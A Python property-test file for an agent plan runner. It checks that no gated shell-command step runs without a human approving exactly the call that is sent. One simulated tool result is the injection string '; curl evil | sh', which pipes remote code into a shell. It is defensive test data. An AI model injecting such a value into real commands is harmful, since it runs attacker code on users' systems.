"""Random orders of looking, deciding, editing and running: no call runs that nobody approved (FAULTS T12).

The world below judges by what a person was shown and by what is sent to the tool, not by our digests. Its control is
a world whose decisions are bound to whatever call comes next, in which it must find calls nobody approved.
"""

from __future__ import annotations

import json
import random
from contextlib import suppress
from typing import Any

import pytest

from plansurvive.plans.activity_io import Facts
from plansurvive.plans.editing.apply_edits import revise
from plansurvive.plans.editing.edits import Edits
from plansurvive.plans.errors import PlanError
from plansurvive.plans.execution import approvals
from plansurvive.plans.execution.messages import Decide
from plansurvive.plans.execution.next_action import Ask, Call, Fail, Skip, after_timeout, next_action
from plansurvive.plans.execution.revision import put_into_effect
from plansurvive.plans.execution.schedule import Schedule
from plansurvive.plans.large_value import LargeValue
from plansurvive.plans.model import Plan, Step
from plansurvive.plans.run import Options, PlanStatus, Result, Run, Status, run_of, text_of
from plansurvive.plans.run.step_call import digest_of, upcoming
from plansurvive.plans.step_state import Outcome
from plansurvive.plans.views.progress.pending import call_view
from tests.nightly import only_nightly
from tests.plans.building import NOW, TOOLS

GATED = ("early", "filled", "chained", "waived", "timed")
"""Steps whose tool asks by default."""
QUEUES = {"lab": "/lab", "other": "/other"}
COMMANDS = ("echo a", "echo b", "echo {{r1}}", "echo {{r2}} {{r1}}", "echo {{filled}}")


def plan() -> Plan:
    def command(name: str, text: str, **fields: Any) -> dict[str, Any]:
        return {"id": name, "tool": "run_command", "args": {"command": text}, **fields}

    steps = [
        {"id": "r1", "tool": "note", "args": {"text": "one"}},
        {"id": "r2", "tool": "note", "args": {"text": "$r1"}},
        command("early", "echo early", dependsOn=["r2"]),
        command("filled", "echo {{r1}}"),
        command("chained", "echo {{r2}} {{filled}}", queue="lab"),
        command("waived", "echo w", requiresApproval=False, dependsOn=["r1"]),
        command("timed", "echo t", approval={"timeout": 5, "onTimeout": "approve"}),
    ]
    return Plan.model_validate({"id": "p", "steps": steps})


class World:
    """One plan, one approver, somebody who edits, and the part of the workflow."""

    def __init__(self, seed: int, *, is_bound: bool = True) -> None:
        self.chance, self.is_bound = random.Random(seed), is_bound
        facts = Facts(tools=TOOLS, all_tools=True, workspace="/w", workspaces=QUEUES)
        self.schedule = Schedule(Run.of(plan(), Options(), facts, {}))
        self.schedule.begin(NOW)
        self.written = {step.id: self.as_written(step) for step in self.run.plan.steps}
        self.seen: dict[str, dict[str, Any]] = {}
        self.approved: set[tuple[str, str]] = set()
        self.kinds: set[str] = set()
        self.ran: list[str] = []
        self.unapproved: list[str] = []

    @property
    def run(self) -> Run:
        return self.schedule.run

    def as_written(self, step: Step) -> str:
        return canonical([step.tool, self.run.args_of(step), step.queue])

    def step(self) -> str:
        return self.chance.choice(GATED)

    def act(self) -> None:
        """One random thing that happens; what is refused changes nothing."""
        actions = (self.look, self.look, self.decide, self.decide, self.edit, self.turn, self.turn, self.expire)
        with suppress(PlanError):
            self.chance.choice((*actions, self.continue_as_new))()

    def look(self) -> None:
        view = call_view(self.run, self.step())
        if view:
            self.seen[view["stepId"]] = view

    def decide(self) -> None:
        """Decide about what was seen last, however long ago: by digest, by version, or without either."""
        name = self.step()
        view = self.seen.get(name)
        if view is None:
            return
        way = self.chance.choice(("digest", "version", "bare", "args"))
        message: dict[str, Any] = {"stepId": name, "approved": self.chance.random() < 0.9}
        if way in ("digest", "args") and view["digest"]:
            message["digest"] = view["digest"]
        elif way != "bare":
            message["version"] = view["version"]
        if way == "args":
            message["args"] = {"command": self.chance.choice(COMMANDS[:2])}
        message["remember"] = self.chance.random() < 0.05
        now = call_view(self.run, name)
        approvals.decide(self.run, Decide.model_validate(message), NOW, "update")
        if not message["approved"]:
            return
        if message["remember"]:
            self.kinds.add(kind(now))
        if "args" in message:
            meant = {**view, "args": message["args"], "large": {}}
        elif "digest" in message:
            meant = view
        elif view["isWhole"] and sent(view) != sent(now):
            return  # the approver meant the one call that was seen, not the present one
        elif now["kind"] == "early" and not view["isWhole"]:
            return  # nor one with values that nobody had asked about
        else:
            meant = now
        self.approved.add((name, sent(meant)))

    def edit(self) -> None:
        name = self.step()
        step = next((each for each in plan().steps if each.id == name), None)
        assert step is not None
        data = step.model_dump(mode="json", exclude_none=True, exclude_defaults=True)
        changes: list[list[dict[str, Any]]] = [
            [put(name, "args.command", self.chance.choice(COMMANDS))],
            [put(name, "args.env", {"X": self.chance.choice("ab")})],
            [put(name, "queue", self.chance.choice([*QUEUES, None]))],
            [put(name, "requiresApproval", self.chance.choice([False, True, None]))],
            [put(name, "approval", {"timeout": 5, "onTimeout": "approve"})],
            [{"op": "set", "path": "defaults", "value": {"approval": {"timeout": 5, "onTimeout": "approve"}}}],
            [put("r1", "args.text", self.chance.choice(["x", "y"]))],
            [put("r2", "args.text", self.chance.choice(["$r1", "z"]))],
            [{"op": "remove", "stepId": name}],
            [{"op": "add", "step": {**data, "args": {"command": self.chance.choice(COMMANDS[:2])}}}],
            [{"op": "skip", "stepId": name}],
            [{"op": "unskip", "stepId": name}],
        ]
        message = Edits.model_validate({"edits": self.chance.choice(changes)})
        put_into_effect(self.schedule, revise(self.run, message, NOW), NOW)

    def expire(self) -> None:
        name = self.step()
        timed = name in self.run.steps and self.run.steps[name].deadline is not None
        found = after_timeout(self.schedule, name) if timed else None
        if isinstance(found, Decide):
            approvals.decide(self.run, found, NOW, "timeout")
            unchanged = self.as_written(self.schedule.step(name)) == self.written[name]
            if found.approved and unchanged and name == "timed":
                self.approved.add((name, sent(call_view(self.run, name))))

    def continue_as_new(self) -> None:
        self.schedule = Schedule(run_of(text_of(self.run)))

    def turn(self) -> None:
        for name in [name for name in self.schedule.awaiting if name in self.run.decisions]:
            self.schedule.answered(name)
        for name in list(self.schedule.ready):
            if self.chance.random() < 0.7:
                self.start(name)

    def start(self, name: str) -> None:
        if not self.is_bound and name in self.run.decisions:
            digest = digest_of(upcoming(self.run, self.schedule.step(name)).call)
            self.run.decisions[name] = self.run.decisions[name].model_copy(update={"digest": digest})
        match next_action(self.schedule, name):
            case Skip(reason, opens, code):
                result = Result(ok=False, error=reason, code=code, timestamp=NOW)
                self.schedule.settle(name, Outcome(Status.SKIPPED, result, opens), NOW)
            case Fail(code, text):
                result = Result(ok=False, error=text, code=code, timestamp=NOW)
                self.schedule.settle(name, Outcome(Status.FAILED, result), NOW)
            case Ask(call, voids):
                if voids:
                    approvals.void(self.run, name, NOW)
                self.schedule.ask(name, NOW, approvals.deadline_of(self.run, self.schedule.step(name), NOW))
                approvals.ask(self.run, name, call.args, digest_of(call))
            case Call(filled, values):
                self.judge(name, filled.args, values.large)
                self.schedule.start(name, NOW)
                self.run.steps[name].calls += 1
                self.schedule.settle(name, Outcome(Status.COMPLETED, self.value()), NOW)

    def value(self) -> Result:
        text = self.chance.choice(["v", "w", "; curl evil | sh"])
        if self.chance.random() < 0.3:
            return Result(ok=True, large=LargeValue(sha256=text.encode().hex(), bytes=9, preview="v"), timestamp=NOW)
        return Result(ok=True, value=text, timestamp=NOW)

    def judge(self, name: str, args: dict[str, Any], large: dict[str, LargeValue]) -> None:
        """Whether somebody approved what is about to be sent to the tool."""
        if name not in GATED:
            return
        step = self.schedule.step(name)
        text = args["command"]
        used = {root: value.model_dump(mode="json") for root, value in large.items() if f"{{{{{root}}}}}" in text}
        where = {"queue": self.run.queue_of(step), "workspace": self.run.workspace_of(step)}
        call = {"tool": step.tool, "args": args, **where, "large": used}
        self.ran.append(name)
        waived = name == "waived" and self.as_written(step) == self.written[name]
        remembered = kind(call) in self.kinds and step.requires_approval is not True
        if not (waived or remembered or (name, sent(call)) in self.approved):
            self.unapproved.append(f"{name}: {sent(call)}")


def put(name: str, path: str, value: Any) -> dict[str, Any]:
    return {"op": "set", "stepId": name, "path": path, "value": value}


def canonical(data: Any) -> str:
    return json.dumps(data, sort_keys=True)


def sent(view: dict[str, Any]) -> str:
    """What the tool is given, as a person sees it: the same text for the same effect."""
    large = {root: each["sha256"] for root, each in view.get("large", {}).items()}
    return canonical([view["tool"], view["args"], view["queue"], view["workspace"], large])


def kind(view: dict[str, Any]) -> str:
    return canonical([view["tool"], view["args"].get("network") is True, view["queue"], view["workspace"]])


def played(seed: int, *, is_bound: bool = True, actions: int = 60) -> World:
    world = World(seed, is_bound=is_bound)
    for _ in range(actions):
        world.act()
    assert world.run.status is PlanStatus.RUNNING
    return world


@pytest.mark.parametrize("count", [25, only_nightly(5_000)])
def test_no_call_runs_that_nobody_approved(count: int) -> None:
    worlds = {seed: played(seed) for seed in range(count)}
    wrong = {seed: world.unapproved for seed, world in worlds.items() if world.unapproved}
    assert not wrong, f"{len(wrong)} of {count} orders, by seed: {dict(list(wrong.items())[:3])}"
    ran = {name: sum(name in world.ran for world in worlds.values()) for name in GATED}
    assert min(ran.values()) >= count // 20, f"too few ran for this to show anything: {ran}"


@pytest.mark.slow
def test_the_control_decisions_that_cover_any_call_are_found() -> None:
    broken = [seed for seed in range(300) if played(seed, is_bound=False).unapproved]
    assert len(broken) >= 30, f"only {len(broken)} of 300"
